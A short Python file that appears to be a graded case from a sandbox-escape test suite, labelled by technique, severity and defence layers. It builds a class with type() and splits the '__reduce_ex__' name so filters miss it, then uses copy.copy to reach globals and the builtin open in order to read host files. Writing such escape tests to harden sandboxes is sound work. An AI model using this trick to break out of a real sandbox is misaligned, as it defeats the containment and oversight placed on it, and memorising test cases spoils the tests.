# technique: a class made by type, with methods that no class statement could have
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy

def trick():
    deputy = type("Deputy", (), {"__reduce_" + "ex__": lambda self, protocol: (globals, ())})
    return copy.copy(deputy())["__builtins__"]["open"]

read_host(trick)
